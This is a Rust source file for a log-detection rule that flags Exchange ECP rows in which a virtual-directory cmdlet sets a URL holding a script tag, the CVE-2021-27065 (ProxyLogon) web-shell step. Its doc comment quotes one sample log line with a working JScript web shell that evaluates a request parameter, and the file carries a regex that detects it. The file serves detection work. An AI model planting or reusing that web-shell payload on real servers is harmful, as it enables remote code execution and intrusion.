//! # VG-ECP001 — Virtual-directory URL set to a script (ECP-01)
//!
//! ## What it does
//! Flags ECP Server log rows where a `Set-*VirtualDirectory` cmdlet (usually
//! `Set-OabVirtualDirectory`) set a `*Url` parameter (`ExternalUrl`,
//! `InternalUrl`) holding an HTML tag pair such as
//! `<script language="JScript" runat="server">…</script>`. **Exploitation**,
//! critical: this is the payload of CVE-2021-27065, written to disk by the
//! following virtual-directory reset.
//!
//! ## Why is this bad?
//! A URL never contains a tag pair; the script becomes the web shell
//! (ATT&CK T1505.003, T1190).
//!
//! ## Example
//! Fires: `2021-03-03T06:02:11.116Z,EXCH01,2,S:CMD=Set-OabVirtualDirectory.ExternalUrl='http://f/<script language="JScript" runat="server">function Page_Load(){eval(Request["k"],"unsafe");}</script>'.Identity='…'`
//!
//! Not flagged: `S:CMD=Set-OabVirtualDirectory.ExternalUrl='https://mail.corp.local/OAB'` (an administrator's change).
//!
//! ## Known false positives
//! None known: before 2021-03-18 Test-ProxyLogon flagged every `Set-*VirtualDirectory`; requiring a tag pair removed those.
//!
//! ## Response
//! Reset the URL, find the `.aspx` written by the reset (VG-IIS003/VG-HP004
//! time), collect it and clean or rebuild the server.
//!
//! ## References
//! Test-ProxyLogon 27065-B; `reference/exchange-indicators.md` §3.4 C, ECP-01.

use super::common::{FileState, LineCtx, LogKind, Rule, finding};
use regex::Regex;
use std::sync::LazyLock;
use vigie_model::{Confidence, Finding, Severity, Stage};

pub(crate) static RULE: Rule = Rule {
    code: "VG-ECP001",
    title: "Virtual-directory URL set to a script (CVE-2021-27065 payload)",
    indicators: &["ECP-01"],
    attack: &["T1505.003", "T1190"],
    cves: &["CVE-2021-27065"],
    severity: Severity::Critical,
    stage: Stage::Exploitation,
    kind: Some(LogKind::Exchange),
    needles: &["virtualdirectory"],
    needle_confirm: None,
    check,
    source: include_str!("ecp01_vdir_url_script.rs"),
    file: "ecp01_vdir_url_script.rs",
    remediation: "Reset the virtual directory URL, find and collect the .aspx written by the next \
        reset, then clean or rebuild the server and patch.",
};

/// `Set-<x>VirtualDirectory` … `<y>Url=` … `<tag …>…</tag>`.
pub(crate) static SCRIPT_URL: LazyLock<Option<Regex>> = LazyLock::new(|| {
    Regex::new(r"(?i)Set-\w*VirtualDirectory.*?\.\w*Url\s*=.*<\s*\w+[^>]*>.*</\s*\w+\s*>").ok()
});

/// The cmdlet named by a row (`Set-OabVirtualDirectory`).
pub(crate) fn cmdlet(raw: &str) -> Option<&str> {
    let i = raw.find("CMD=")? + 4;
    let rest = &raw[i..];
    let end = rest.find(['.', ';', ',', ' ']).unwrap_or(rest.len());
    Some(&rest[..end])
}

fn check(rule: &Rule, ctx: &LineCtx<'_>, _: &mut FileState, out: &mut Vec<Finding>) {
    if is_script_url(ctx.raw) {
        let name = cmdlet(ctx.raw).unwrap_or("Set-*VirtualDirectory");
        let title = format!("{name} set a URL holding a script (ProxyLogon web-shell payload)");
        out.push(finding(
            rule,
            ctx,
            Stage::Exploitation,
            Severity::Critical,
            Confidence::Confirmed,
            title,
        ));
    }
}

pub(crate) fn is_script_url(raw: &str) -> bool {
    SCRIPT_URL.as_ref().is_some_and(|re| re.is_match(raw))
}
